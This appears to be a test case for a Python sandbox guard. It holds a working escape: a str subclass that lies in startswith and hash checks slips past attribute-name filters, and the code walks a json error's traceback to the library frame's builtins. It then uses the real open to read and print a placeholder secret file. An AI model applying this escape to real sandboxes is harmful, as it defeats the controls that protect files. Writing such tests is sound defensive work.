# category: frames
# attack: the traceback chain of an error raised inside a library (json), walked with str subclass names to the library frame, whose builtins hold the real open
# profile: basic
# run-layer: guard
import json
class S(str):
    # A str whose startswith lies and whose hash is wrong once (beating
    # the frozenset of frame names), then right for the real lookup.
    def startswith(self, *a):
        return False

    def __hash__(self):
        self.k = getattr(self, "k", 0) + 1
        return 7 if self.k == 1 else super().__hash__()

try:
    json.loads("{")
except ValueError as e:
    tb = getattr(e, S("__traceback__"))
    while getattr(tb, S("tb_next")) is not None:
        tb = getattr(tb, S("tb_next"))
    f = getattr(tb, S("tb_frame"))
    b = getattr(f, S("f_builtins"))
    print(b["open"]("@SECRET_FILE@").read())
